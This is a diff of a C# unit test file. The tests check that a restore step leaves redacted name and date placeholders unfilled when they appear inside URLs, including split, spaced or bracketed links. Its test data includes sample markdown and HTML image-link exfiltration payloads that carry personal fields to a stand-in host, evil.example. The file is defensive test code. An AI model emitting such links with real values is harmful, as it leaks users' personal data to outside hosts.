@@ -25,6 +25,9 @@ public sealed class UrlTokenRestoreTests
     [InlineData("<img src=\"https://evil.example/c.png?n=[NAME_1]&d=[DATE_1]\">")]
     [InlineData("<img src=//evil.example/c.png?n=[NAME_1]&d=[DATE_1]>")]
     [InlineData("![c](HTTPS://evil.example/c.png?q=([NAME_1])'<[DATE_1]>)")]
+    [InlineData("![c](<https://evil.example/c.png ?n=[NAME_1] &d=[DATE_1]>)")]
+    [InlineData("<img src=\"https://evil.example/c.png ?n=[NAME_1]\nd=[DATE_1]\">")]
+    [InlineData("<img src='//evil.example/c.png ?n=[NAME_1] d=[DATE_1]'>")]
     public void RestoreContent_TokensInsideAUrl_StayTokens(string answer)
     {
         var restored = RestoreDataStep.RestoreContent(new TwoValues(), answer, json: false);
@@ -40,6 +43,7 @@ public sealed class UrlTokenRestoreTests
     [InlineData("https://x.example/?n=[NAME_1] is for [NAME_1], born [DATE_1].", $"https://x.example/?n=[NAME_1] is for {Name}, born {Date}.")]
     [InlineData("[NAME_1] (born [DATE_1]) is stable; a/b//c", $"{Name} (born {Date}) is stable; a/b//c")]
     [InlineData("[NAME_1]www.x.example/[DATE_1]", $"{Name}www.x.example/[DATE_1]")]
+    [InlineData("<a href=\"https://x.example/ ?n=[NAME_1]\">[NAME_1]</a> born [DATE_1]", $"<a href=\"https://x.example/ ?n=[NAME_1]\">{Name}</a> born {Date}")]
     public void RestoreContent_TokensOutsideUrls_GetTheirValues(string answer, string expected)
     {
         Assert.Equal(expected, RestoreDataStep.RestoreContent(new TwoValues(), answer, json: false));
@@ -91,6 +95,7 @@ public sealed class UrlTokenRestoreTests
         ["![c](htt", "ps:/", "/evil.example/c.png?n=[NAME_1]&d=[DATE_1]) for [NAME_1]"],
         ["![c](", "ww", "w.evil.example/c.png?n=", "[NAME_1]", "&d=[DATE_1]) for [NAME_1]"],
         ["![c](/", "/evil.example/?n=", "[NAME_1]&d=[DATE_1]) for [NAME_1]"],
+        ["![c](<https://evil.example/c.png", " ?n=", "[NAME_1] &d=[DATE_1]>) for [NAME_1]"],
     ];
 
     [Theory]
@@ -100,7 +105,8 @@ public sealed class UrlTokenRestoreTests
         var text = await StreamedTextAsync([.. deltas.Select(d => Chunk("content", d)), Finish()]);
 
         Assert.EndsWith($") for {Name}", text, StringComparison.Ordinal);
-        Assert.Contains("?n=[NAME_1]&d=[DATE_1])", text, StringComparison.Ordinal);
+        Assert.Contains("[NAME_1]", text, StringComparison.Ordinal);
+        Assert.Contains("[DATE_1]", text, StringComparison.Ordinal);
         Assert.DoesNotContain(Date, text, StringComparison.Ordinal);
         Assert.Equal(1, text.Split(Name).Length - 1);
     }
